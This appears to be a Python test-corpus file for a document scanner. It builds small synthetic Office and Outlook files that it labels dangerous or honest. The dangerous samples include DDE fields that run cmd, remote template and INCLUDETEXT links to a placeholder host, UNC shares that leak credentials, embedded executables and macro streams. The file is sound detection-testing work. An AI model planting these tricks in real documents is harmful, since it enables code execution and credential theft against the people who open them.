"""Compound files that do more than be read, and honest ones."""

import struct
import zlib
from typing import Final

from tests.corpus.files.case import FileCase
from tests.inspection.ole_files import ole, word, workbook
from tests.inspection.outlook_files import reminding

_COM: Final = "-0000-0000-C000-000000000046"
_MONIKER: Final = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
_SLIDES: Final = "PowerPoint Document"
_FIB: Final = bytes.fromhex("eca5c100") + bytes(600)


def _case(name: str, data: bytes, *reasons: str) -> FileCase:
    return FileCase(name, lambda: data, frozenset(f"ole_{reason}" for reason in reasons))


def _packed(data: bytes) -> bytes:
    body = struct.pack("<L", len(data)) + zlib.compress(data)
    return b"\x10\0\x11\x10" + struct.pack("<L", len(body)) + body


def _records(*records: tuple[int, bytes]) -> bytes:
    """A workbook in no compound file."""
    return b"".join(struct.pack("<HH", kind, len(body)) + body for kind, body in (*records, (0x0A, b"")))


def _begin(kind: int) -> bytes:
    return struct.pack("<HHH", 0, kind, 0)


_MACROS: Final = ole({"_VBA_PROJECT": b"x", "dir": b"x"}, {"VBA": ""})
_DANGEROUS: Final = (
    _case("macros.doc", ole({"WordDocument": _FIB, "_VBA_PROJECT": b"x"}, {"Macros": "", "VBA": ""}), "macros"),
    _case("macros.xls", ole({"Workbook": workbook()}, {"_VBA_PROJECT_CUR": ""}), "macros"),
    _case("macro-sheet.xls", ole({"Workbook": workbook((0x85, bytes(4) + b"\2\1\1\0A"))}), "macros"),
    _case("macro-sheet-2.xls", _records((0x09, b"\2\0\x40\0")), "macros"),
    _case("macro-sheet-3.xls", _records((0x209, _begin(0x40))), "macros"),
    _case("macro-sheet-4", _records((0x409, _begin(0x40))), "macros"),
    _case("macro-sheet-in-a-workspace.xls",
        _records((0x409, _begin(0x100)), (0x409, _begin(0x10)), (0x0A, b""), (0x409, _begin(0x40))), "macros"),
    _case("macro-sheet-bare.xls", workbook((0x85, bytes(4) + b"\2\1\1\0A")), "macros"),
    _case("macros-compressed.ppt", ole({_SLIDES: _packed(_MACROS)}), "macros"),
    _case("macros-told.ppt",
        ole({_SLIDES: b"\x1f\0\xff\3\x14\0\0\0\2\0\0\4\x0c\0\0\0\5\0\0\0\1\0\0\0\2\0\0\0"}), "macros"),
    _case("package.doc", ole({"WordDocument": _FIB, "\1Ole10Native": b"MZ"}), "package"),
    _case("package-class.doc", ole({"WordDocument": _FIB}, {"_1": f"0003000C{_COM}"}), "package"),
    _case("equation.doc", ole({"WordDocument": _FIB}, {"_1": f"0002CE02{_COM}"}), "equation"),
    _case("equation-object.doc", ole({"Equation Native": b"x"}, root=f"0002CE02{_COM}"), "equation"),
    _case("link.doc", ole({"WordDocument": _FIB, "\1Ole": bytes(30) + _MONIKER + b"h\0t\0t\0p\0"}), "remote"),
    _case("dde.doc", ole({"WordDocument": _FIB + b'\x13 DDEAUTO cmd "/k calc" \x14'}), "dde"),
    _case("dde-in-utf-16.doc", ole({"WordDocument": _FIB + "\x13 dde cmd\x14".encode("utf-16-le")}), "dde"),
    _case("reads.doc", ole(word('\x13INCLUDETEXT "http://h.example/a.docx"\x14x\x15')), "remote"),
    _case("reads-in-pieces.doc",
        ole(word("\x13 INCLU", "DETEXT \u201cfile://h.example", "/s/a.doc\u201d", "\x15")), "remote"),
    _case("reads-before-pieces.doc",
        ole({"WordDocument": _FIB + b'\x13 LINK Word.Document.8 "\\\\h\\s\\a"\x14'}), "remote"),
    _case("picture-on-a-share.doc", ole(word("\x13", r'INCLUDEPICTURE "\\\\10.0.0.1\\s\\a.png"')), "remote"),
    _case("dde-in-pieces.doc", ole(word("\x13 \x13 QUOTE 68 68", " 69\x14\x15", " cmd\x15")), "dde"),
    _case("template.doc", ole(word("A letter", template="http://h.example/a.dotm")), "remote"),
    _case("template-on-a-share.doc", ole(word("A letter", template=r"\\10.0.0.1\s\a.dot")), "remote"),
    _case("too-many-fields.doc", ole(word("\x13" * 300_001)), "not_examined"),
    _case("dde.xls", ole({"Workbook": workbook((0x1AE, b"\0\0\6\0\0cmd\3/c"))}), "dde"),
    _case("reminder.msg", reminding("\\\\198.51.100.7\\share\\a.wav"), "remote"),
    _case("installer.doc", ole({"WordDocument": _FIB}, root=f"000C1084{_COM}"), "installer"),
    _case("encrypted.docx", ole({"EncryptionInfo": b"\4\0\4\0", "EncryptedPackage": b"x" * 900}), "not_examined"),
    _case("encrypted.xls", ole({"Workbook": workbook((0x2F, bytes(54)))}), "not_examined"),
    _case("encrypted.doc", ole({"WordDocument": _FIB[:11] + b"\1" + _FIB[12:]}), "not_examined"),
)  # fmt: skip
_HONEST: Final = (
    _case("letter.doc", ole({"WordDocument": _FIB + b"\x13 PAGE \x14 the macros of DDE", "1Table": b"x"})),
    _case(
        "fields.doc",
        ole(
            word(
                '\x13 HYPERLINK "http://h.example/"\x14x\x15 \x13 INCLUDEPICTURE "http://h.example/a.png" \\d',
                "\x14\x15",
                ' \x13 INCLUDETEXT "C:\\\\a\\\\b.doc"\x15 the text LINK http://h.example',
                template="C:\\a\\Normal.dot",
            )
        ),
    ),
    _case("workbook.xls", ole({"Workbook": workbook((0x85, bytes(4) + b"\0\0\1\0A"), (0x1AE, b"\1\0\1\4"))})),
    _case("sheet-2.xls", _records((0x09, b"\2\0\x10\0"), (4, b"\0\0\0\0\0\0\0\1\x40"))),
    _case("sheet-4.xls", _records((0x409, _begin(0x10)))),
    _case("workspace.xls", _records((0x409, _begin(0x100)), (0x409, _begin(0x10)), (0x0A, b""))),
    _case("indented", "\t\tx@y".encode("utf-16-le")),
    _case("linked.xls", ole({"Workbook": workbook((0x1AE, b"\1\0\6\0\0\1a.xls"))})),
    _case("slides.ppt", ole({_SLIDES: b"\x0f\0\xe8\3" + bytes(90), "Current User": bytes(12) + b"\x5f\xc0\x91\xe3"})),
    _case("slides-with-a-chart.ppt", ole({_SLIDES: _packed(ole({"Workbook": workbook()}))})),
    _case("mathtype.doc", ole({"WordDocument": _FIB, "Equation Native": b"x"}, {"_1": f"0002CE03{_COM}"})),
    _case("mail-that-reminds.msg", reminding("reminder.wav")),
    _case("mail.msg", ole({"__properties_version1.0": b"x", "__substg1.0_1000001F": b"h\0i\0"})),
)
CASES: Final[tuple[FileCase, ...]] = _DANGEROUS + _HONEST
